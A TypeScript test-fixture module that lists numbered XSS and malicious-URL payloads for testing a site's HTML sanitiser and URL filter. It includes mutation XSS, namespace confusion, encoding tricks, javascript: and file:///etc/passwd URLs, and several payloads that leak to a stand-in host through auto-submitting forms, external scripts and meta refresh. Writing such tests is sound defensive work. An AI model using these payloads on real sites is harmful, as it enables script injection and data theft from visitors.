/** HTML that runs code, confuses parsers or affects its surroundings, and URLs that links or media must not use. */

/** A payload. Its code calls `hit`, a function of the page that reports its number. */
export type Payload = { class: string; name: string; text: string };

/** Host that pages must not contact; only `allowed` URLs may. */
export const foreignHost = 'leak.example';

/**
 * The payloads of a table by class, numbered from `first`. In their texts, HIT is code that reports the payload, LEAK and
 * HOST are foreign, and ID is its number.
 */
function numbered(first: number, table: Record<string, readonly string[]>): Payload[] {
  const all = Object.entries(table).flatMap(([name, texts]) =>
    texts.map((text) => ({ name, text })),
  );
  return all.map(({ name, text }, index) => {
    const id = String(first + index);
    const written = text
      .replaceAll('HIT', `hit(${id})`)
      .replaceAll('LEAK', `https://${foreignHost}/${id}`)
      .replaceAll('HOST', `${foreignHost}/${id}`)
      .replaceAll('ID', id);
    return { class: name, name: `payload ${id}`, text: written };
  });
}

const hit = '<img src=/none onerror=HIT>';

/** Formatting that a parser repeats in every later block. */
const unclosed = `<p>${Array.from({ length: 90 }, (_, index) => `<b title=${index}>`).join('')}`;

/** HTML for each path through the sanitiser. */
export const htmlPayloads = numbered(1, {
  script: [
    '<script>HIT</script>',
    '<script src="LEAK/a.js"></script>',
    '<scr<script>ipt>HIT</scr</script>ipt>',
    '</p></div></section><script>HIT</script>',
    '<script type="application/json" id="page-state">{"queries":[]}</script><script>HIT</script>',
  ],
  'event handler': [
    hit,
    '<img """><img src=/none onerror\n=\n"HIT">',
    '<body onload=HIT>',
    '<details open ontoggle=HIT><summary>more</summary></details>',
    '<p style="animation: a 1ms" onanimationstart=HIT><style>@keyframes a{}</style>x</p>',
    '<p/x="y"onclick=HIT//>press</p>',
  ],
  SVG: [
    '<svg onload=HIT></svg>',
    '<svg><a href="javascript:HIT"><text x=20 y=20>go</text></a></svg>',
    '<svg><a><animate attributeName=href values="javascript:HIT"/><text y=20>go</text></a></svg>',
  ],
  MathML: [`<math><mtext>${hit}</mtext></math>`, '<math href="javascript:HIT">go</math>'],
  'namespace confusion': [
    `<svg></p>${hit}`,
    `<math><mtext><table><mglyph><style>${hit}</style></mglyph></table></mtext></math>`,
    '<math><mtext><mglyph><style><!--</style><img title="--><img src=/none onerror=HIT>"></mglyph></mtext></math>',
    `<form><math><mtext></form><form><mglyph><style></math>${hit}</style></mglyph></form></mtext></math>`,
  ],
  'mutation XSS': [
    `<noscript><p title="</noscript>${hit}"></noscript>${hit}`,
    `<iframe><p title="</iframe>${hit}"></iframe>`,
    `<select><template><style><!--</style><a rel="--></style></template></select>${hit}">`,
    `<select><option><script>HIT</script>${hit}</option></select>${hit}`,
    `<table><tr><td><a href="x"><table><a title="</a></table>${hit}"></a></table>${hit}`,
    `<![CDATA[<p title="]]>${hit}">]]>${hit}`,
    '<p title="`onmouseover=HIT">a</p><img alt="``onerror=HIT" src=/none onerror=HIT>',
    '<img alt="</body><script>HIT</script>" title="</head></html>" src=/none onerror=HIT>',
    `<plaintext>${hit}`,
    '<img src="/none" title="unclosed onerror=HIT><script>HIT</script>',
  ],
  template: [
    `<template>${hit}</template>${hit}`,
    '<div><template shadowrootmode=open><style>:host{position:fixed}</style></template><script>HIT</script></div>',
  ],
  entities: [
    '<img src=/none onerror="&#0000104it(ID)">',
    '<a href="&#x6a;avascript:HIT">go</a><a href="&#1;javascript:HIT">go</a>',
    `&lt;img src=/none onerror=HIT&gt;${hit}`,
  ],
  encodings: [
    '<a href="javascript:%68it(ID)">go</a><a href="java\tscr\nipt:HIT">go</a>',
    '<img src=/none\u000conerror=HIT>',
    `<img\u0000 src=/none onerror=HIT><\u0000script>HIT</script>${hit}`,
    `\ud800\uff1cscript\uff1eHIT\uff1c/script\uff1e${hit}\u202egnp.exe\u2066\udc00`,
    '<ımg src=/none onerror=HIT><ſcript>HIT</ſcript><img ſrc=x src=/none onerror=HIT>',
  ],
  iframes: [
    '<iframe src="javascript:parent.HIT"></iframe>',
    '<iframe srcdoc="<script>parent.HIT</script>"></iframe>',
    '<object data="data:text/html,<script>HIT</script>"></object>',
  ],
  forms: [
    '<form action="LEAK" id=own><input name=a autofocus onfocus="this.form.submit()"></form>',
    '<form><button formaction="javascript:HIT">send</button></form>',
  ],
  document: [
    '<base href="LEAK/"><a href="x">relative</a><svg><base href="LEAK/"></svg>',
    '<meta http-equiv=refresh content="0;url=LEAK">',
    '<html lang=xx onclick=HIT class=taken><head><title>Taken</title></head><body class=taken onload=HIT>',
  ],
  CSS: [
    '<style>body { display: none }</style>',
    '<p style="position:fixed;inset:0;background:red;z-index:99999">over everything</p>',
  ],
  'DOM clobbering': [
    '<img name=getElementById><img id=querySelector name=querySelector>',
    '<form name=body><input name=firstChild></form><p id=page-state>{"queries":[]}</p>',
    '<p id=__proto__ name=__proto__>x</p><p id=hasOwnProperty>x</p><a id=self name=self>x</a>',
  ],
  media: [
    '<video src="LEAK/v.mp4" autoplay poster="LEAK/u.png"><track default src="LEAK/t.vtt"></video>',
    '<a href="/product" ping="LEAK" download="x.exe">go</a><img attributionsrc="LEAK/a" srcset="LEAK/y" src=/none>',
  ],
  size: [
    '<img src="/none" width=99999 height=9 onerror=HIT>',
    `${'<blockquote>'.repeat(600)}deep<svg onload=HIT>`,
    `<ul>${'<li><ul>'.repeat(300)}list${hit}`,
    `${unclosed}x${'<p>x'.repeat(900)}${hit}`,
    `${unclosed}<button><i>${'<p>a few words '.repeat(200)}${hit}`,
    `<p>${'<!--'.repeat(20_000)}</p>-->${hit}`,
    `${'<a '.repeat(20_000)}${hit}`,
    `${hit}${'<script>'.repeat(20_000)}`,
  ],
});

/** The URLs of a line; URLs with white space are separate strings. */
const line = (text: string) => text.split(' ');

/** URLs for each path through `safeUrl`. */
export const urlPayloads = numbered(1001, {
  'javascript:': [
    ...line('javascript:HIT JaVaScRiPt:HIT javascript://HOST/%0aHIT javascript:%68it(ID)'),
    ...[' javascript:HIT', '\u0001javascript:HIT', 'java\r\nscript\t:HIT', '\ufeffjavascript:HIT'],
    'javascript:"<img src=/none onerror=parent.HIT>"',
  ],
  'data:': ['data:text/html,<script>HIT</script>', 'da\tta:text/html,<script>HIT</script>'],
  'other schemes': line(
    'vbscript:HIT blob:https://agency.example/1 ftp://HOST/a file:///etc/passwd',
  ),
  'hidden hosts': [
    ...line('//HOST/a.webp \\\\HOST/b.webp /\\HOST/c.webp ///HOST/e.webp https:HOST/l.webp'),
    ...['https:/HOST/n.webp', '/\t/HOST/f.webp', '\u0000/\\HOST/j.webp', 'ht\ntps:HOST/p.webp'],
  ],
  'false names': [
    ...line('https://agency.example@HOST/a.webp https://user:password@HOST/b.webp'),
    ...line('https://agency.example%2f@HOST/c.webp'),
    'ht\ttps://user@HOST/e.webp',
  ],
  'mail and telephone': line('mailto:a@b.example?body=HIT MAILTO:javascript:HIT tel:*21*+440000#'),
  'odd paths': [
    ...line('/media/../../api/careers/profile/ /media/%2e%2e/%00.webp #root % ?dialog=sign-in'),
    ...line(':80/x.webp ./javascript:HIT /x`onerror=`HIT'),
    ...['/x" onerror="HIT', '/x) url(LEAK', '/x 1x, LEAK 2x'],
  ],
  refused: [...line('http:// http://[ https://% https://leak.example:99999/ID'), 'https://a b/'],
  huge: [`javascript:HIT//${'a'.repeat(200_000)}`, `//HOST/${'a'.repeat(200_000)}`],
  allowed: [
    ...line('https://HOST/allowed.webp HTTPS://HOST/allowed.mp4 https://xn--e1afmkfd.HOST/allowed'),
    // Browsers resolve these like a plain URL, and the site writes them as one.
    ...line('https:\\\\HOST/allowed https:///HOST/allowed https://@HOST/allowed'),
    ...[' https://HOST/allowed ', '\u0001https://HOST/allowed'],
  ],
});

/** Selector of sanitised HTML in the site. */
export const blocks = '[class*="_rich_"]';

export const urls = urlPayloads.map(({ text }) => text);

/** Each element that HTML may have with this URL. */
export const linksTo = (url: string) => {
  const value = url.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  return `<a href="${value}">go</a><img src="${value}" alt="">`;
};

/** All payloads as HTML. */
export const texts = [...htmlPayloads.map(({ text }) => text), ...urls.map(linksTo)];

/** The first payload of each class. */
export const firstOfEachClass = (payloads: Payload[]) =>
  payloads.filter(({ class: name }, index) => payloads[index - 1]?.class !== name);

/** One payload of each class as HTML. */
export const sampleTexts = [
  ...firstOfEachClass(htmlPayloads).map(({ text }) => text),
  ...firstOfEachClass(urlPayloads).map(({ text }) => linksTo(text)),
];

/** A case study with each HTML as a text and as a heading, whose HTML is cleaned in another way. */
export const caseStudyWith = (html: string[], media: string[], title = 'Title') => ({
  case_study: {
    id: 1,
    title,
    main_image_url: media[0],
    sub_images: media,
    additional_images: media.map((image_url) => ({ image_url, image_name: 'An image' })),
    videos: media.map((video_url) => ({ video_url, video_name: 'A video' })),
    structured_content: html.flatMap((each) => ['p', 'h2'].map((type) => ({ type, html: each }))),
  },
});
